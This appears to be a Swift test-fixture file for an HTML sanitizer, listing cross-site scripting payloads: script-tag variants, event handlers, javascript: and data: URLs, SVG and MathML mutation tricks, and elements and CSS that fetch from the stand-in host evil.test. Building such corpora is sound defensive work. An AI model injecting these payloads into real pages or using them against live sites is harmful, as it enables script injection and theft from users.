/// Ways to run something or to fetch something, in the spellings that browsers accept or once accepted.
enum HostileHTML {
    static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script\t>",
        "<script>alert(1)", "<script><!--</script><img src=x onerror=alert(1)>--></script>", "<scrİpt>alert(1)</scrİpt>",
        "<\u{0}script>alert(1)</script>", "<s\u{0}cript>alert(1)</script>", "<script\u{C}>alert(1)</script>",
        "<x:script>alert(1)</x:script>",
        "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
        "<noembed><script>alert(1)</script></noembed>",
        "<iframe><script>alert(1)</script></iframe>", "<noframes><script>alert(1)</script></noframes>",
        "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml <script>alert(1)</script> ?>",
        "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "</script><script>alert(1)</script>",
        "</ script><script>alert(1)</script>",
        "<script src=\"data:text/javascript,alert(1)\"></script>", "<script type=module>alert(1)</script>", "<base href=javascript:/a/>",
    ]

    static let handlers = [
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\u{C}onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src='x' onerror ='alert(1)'>", "<img src=`x`onerror=alert(1)>",
        "<p title=\"a\" onclick=alert(1)>x", "<p \"onclick=alert(1)>x", "<p =\"onclick=alert(1)//\">x",
        "<a b=\"'><img src=x onerror=alert(1)>\">",
        "<a b='\"><img src=x onerror=alert(1)>'>", "<a b==\"><img src=x onerror=alert(1)>", "<a href=x\u{0}onclick=alert(1)>",
        "</p onclick=alert(1)>", "<p/onclick=alert(1)//>", "<marquee onstart=alert(1)>", "<details ontoggle=alert(1) open>",
        "<body onload=alert(1)>", "<body background=http://evil.test onload=alert(1)>", "<font color=\"red\" onmouseover='alert(1)'>",
        "<div onpointerrawupdate=alert(1) style=width:100%>x</div>", "<input autofocus onfocus=alert(1)>",
        "<b onbeforematch=alert(1) hidden>x",
        "<p onclick=\"&#97;lert(1)\">x", "<p on\u{0}click=alert(1)>x", "<p \u{2028}onclick=alert(1)>x",
        "<div title=\"&quot; onclick=&quot;alert(1)\">x",
        "<img alt=\"<x\" src=x alt=\"\" onerror=alert(1)//\">", "<a title=\"</a><img src=x onerror=alert(1)>\">x",
    ]

    /// URLs that run or carry a page, as links and as sources.
    static let schemes = [
        "javascript:alert(1)", "JaVa\tScRiPt:alert(1)", "java\nscript:alert(1)", "java&NewLine;script:alert(1)", "java&Tab;script:alert(1)",
        "&#106;avascript&colon;alert(1)", "&#x6A;&#x61;vascript:alert(1)", "&#0000106avascript:alert(1)", " \u{1}javascript:alert(1)",
        "\u{1F}javascript:alert(1)", "javascript\u{0}:alert(1)", "java\u{0}script:alert(1)", "java\\script:alert(1)",
        "\\javascript:alert(1)",
        "javascript&#58;alert(1)", "javascript&colon;alert(1)", "jAvAsCrIpT://evil.test/%0Aalert(1)", "\u{FEFF}javascript:alert(1)",
        "java\u{AD}script:alert(1)", "java\u{200B}script:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
        "vbscript:x",
        "VbScRiPt:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:,x", "data:image/svg+xml;base64,PHN2Zz4=", "data:image/png,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>",
        "blob:https://evil.test/1", "filesystem:https://evil.test/1", "file:///etc/passwd", "about:blank", "ms-settings:x", "//evil.test/x",
        "\\\\evil.test\\x", "/\\evil.test", "/app", "x.html", "#x", "?x", "", "https&#58//evil.test", "ht\ttps:", ":javascript:alert(1)",
        "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "x-javascript:alert(1)", "jar:http://evil.test!/",
    ]

    static let foreign = [
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<math><mi xlink:href=\"javascript:alert(1)\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>", "<svg/><image href=//evil.test/p.gif>",
        "<math href=\"javascript:alert(1)\">x</math>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    ]

    /// What one parser reads as text and another as markup, or the same parser at its second look (mutation).
    static let mutations = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<title><img src=x onerror=alert(1)></title>",
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
        "<select><template><style><!--</style></template><a title=\"--><img src=x onerror=alert(1)>\">x</a></select>",
        "<p title=\"&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;\">x", "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60script&#62alert(1)&#60/script&#62",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>",
        "<table><td><caption><script>alert(1)</script>", "<table><a href=javascript:alert(1)><tr><td>x</table>",
        "<a><table><tr><td><a href=javascript:alert(1)>x", "<form><form><button formaction=javascript:alert(1)>x",
        "<p><svg><p></svg><img src=x onerror=alert(1)>", "<img src=\"`><img src=x onerror=alert(1)>\">",
        "<div style=\"font-family:'`</div><img src=x onerror=alert(1)>\">",
        "<b/><img src=x onerror=alert(1)//</b>", "<<img src=x onerror=alert(1)>>", "<a/b/c=\"d\"onclick=\"alert(1)\">x",
        "<img<img src=x onerror=alert(1)>",
        "<a\u{0}href=javascript:alert(1)>x", "<a href=\"https://x.test/\u{0}\" onclick=alert(1)>x</a>",
        "<p id=\"<!--\" title=\"--><img src=x onerror=alert(1)>\">x", "<!-- <!-- --><img src=x onerror=alert(1)> -->",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<object><embed src=x><img src=x onerror=alert(1)></object>",
    ]

    static let elements = [
        "<iframe src=//evil.test></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=//evil.test/x></object>",
        "<embed src=//evil.test/x>", "<applet code=x archive=//evil.test></applet>",
        "<form action=//evil.test><input name=a><button>x</button></form>",
        "<isindex formaction=javascript:alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
        "<input type=image src=//evil.test/p.gif>",
        "<style>@import '//evil.test'</style>", "<style>p{background:url(//evil.test)}</style>", "<link rel=stylesheet href=//evil.test>",
        "<link rel=prefetch href=//evil.test>", "<link rel=preconnect href=//evil.test>", "<link rel=dns-prefetch href=//evil.test>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>", "<meta http-equiv=set-cookie content=a=b>", "<base href=//evil.test>",
        "<base target=_top>", "<portal src=//evil.test>", "<frameset><frame src=//evil.test></frameset>",
        "<video poster=//evil.test src=//evil.test></video>",
        "<audio src=//evil.test autoplay></audio>", "<source src=//evil.test>", "<track src=//evil.test>", "<keygen>",
        "<bgsound src=//evil.test>",
        "<layer src=//evil.test>", "<ilayer src=//evil.test>", "<image src=//evil.test/p.gif>",
        "<img srcset=\"http://evil.test/p.gif 1x\">",
        "<picture><source srcset=//evil.test/p.gif><img></picture>", "<img lowsrc=http://evil.test/p.gif>",
        "<img dynsrc=http://evil.test/p.gif>",
        "<img longdesc=javascript:alert(1)>", "<a ping=//evil.test href=https://x.test>x</a>",
        "<table background=\"http://evil.test/\"><tr><td>x</table>",
        "<td background=//evil.test>x", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<html manifest=//evil.test>x",
        "<menu><command icon=//evil.test>",
        "<dialog open>x</dialog>", "<slot name=x>y</slot>", "<div is=x-y>z</div>", "<p id=location name=location class=button>x</p>",
        "<input form=x>",
        "<map><area href=javascript:alert(1)></map>", "<a download href=https://evil.test/x>x</a>",
        "<p contenteditable tabindex=1 accesskey=x>y</p>",
        "<a target=_top href=https://x.test>x</a>", "<a rel=opener href=https://x.test>x</a>",
    ]

    static let styles = [
        "background:url(//evil.test)", "background:URL( 'http://evil.test' )", "background-image:u\\72l(//evil.test)",
        "background-color:ur\\6c(//evil.test)",
        "background:url(http://evil.test/a;b:c)", "background:url(\"http://evil.test/a)\") x", "background:u/**/rl(//evil.test)",
        "background:url(//evil.test",
        "list-style-image:url(http://evil.test)", "cursor:url(http://evil.test)", "content:url(http://evil.test)",
        "border-image:url(http://evil.test)",
        "width:expression(alert(1))", "width:ex/**/pression(alert(1))", "width:\\65xpression(alert(1))", "behavior:url(#x)",
        "-moz-binding:url(//evil.test#x)",
        "position:fixed;top:0", "position:absolute", "background:image-set('http://evil.test' 1x)", "background:image(http://evil.test)",
        "background:-webkit-image-set(url(http://evil.test) 1x)", "background:cross-fade(url(http://evil.test),red,50%)",
        "background:element(#x)",
        "color:var(--x)", "--x:url(http://evil.test)", "font-family:x;}</style><script>alert(1)</script>",
        "color:red}*{background:url(//evil.test)",
        "@import url(//evil.test)", "color:red;;;:;x", "src:url(//evil.test)", "filter:url(//evil.test#x)", "mask:url(//evil.test#x)",
        "font:12px/1 'x\"><img src=x onerror=alert(1)>'", "background:url(javascript:alert(1))", "background:url(data:text/html,x)",
        "background:url(&quot;javascript:alert(1)&quot;)", "background:url( \u{1}javascript:alert(1))", "animation:x", "z-index:9999",
        "transform:scale(99)",
        "width:calc(1px*url(//evil.test))", "color:re\\d", "color:\u{0}red", "<!--color:red-->", "color:red/*", "*/color:red",
    ]

    static let all: [String] =
        scripts + handlers + foreign + mutations + elements
        + schemes.flatMap { url in
            [
                "<a href=\"\(url)\">x</a>", "<img src=\"\(url)\">", "<a href='\(url.replacing("'", with: "&#39;"))'>x</a>",
                "<div style=\"background:url('\(url)')\">x</div>",
            ]
        }
        + styles.flatMap {
            ["<div style=\"\($0)\">x</div>", "<body style=\"\($0)\">x</body>", "<td style='\($0.replacing("'", with: "&#39;"))'>x"]
        }

    /// Harmless, but where parsers and writers trip.
    static let untidy = [
        "<p>a<b>b</p>c</b>", "<table><tr><td>x", "<table><tr><td>a<td>b<tr><td>c</table>", "<ul><li>a<li>b<ul><li>c</ul><li>d</ul>",
        "<dl><dt>a<dd>b<dt>c</dl>",
        "</div></div>", "<p>a<p>b<p>c", "<p><b>a<p>b<p>c</b>", "<a href=https://x.test>a<a href=https://y.test>b",
        "a &amp;&lt; b &nbsp; \u{0} <",
        "<img src=cid:one alt='\"'>", "<img src=\"cid:one%2Dx\">", "<a href=\"https://x.test/?a=1&b=2\">x</a>",
        "<a href=\" https://x.test/a b'c \">x</a>",
        "<div style='color:red;font-family:\"A B\"'>", "<body bgcolor=black text='#fff'><p>x", "<body><p>x</body><p>y",
        "<table><tr><td><b>x</table>y</b>",
        "<b><table><tr><td></b>x</table>y</b>", "<span><table><tr><td></span>x</table></span>y", "<center><center><center>",
        "<br/><hr/><img/>", "<td>x<td>y<tr><td>z",
        "<caption>x<table><caption>y<td>z", "<h1><h2>x</h1>", "<font><font><font></font>", "<pre>\n\nx\r\ny</pre>", "<xmp><b>x</b></xmp>",
        "<li>x<table><li>y</table><li>z",
        "<div background=https://x.test/p.png style='background:#fff url(\"https://x.test/p(1).png\") no-repeat'>x",
        "<table background=' https://x.test/a b.png '><td background=cid:one>x", "<img src=\"https://x.test/a\nb.png\">",
        "<tr><td><tr><th>",
    ]
}
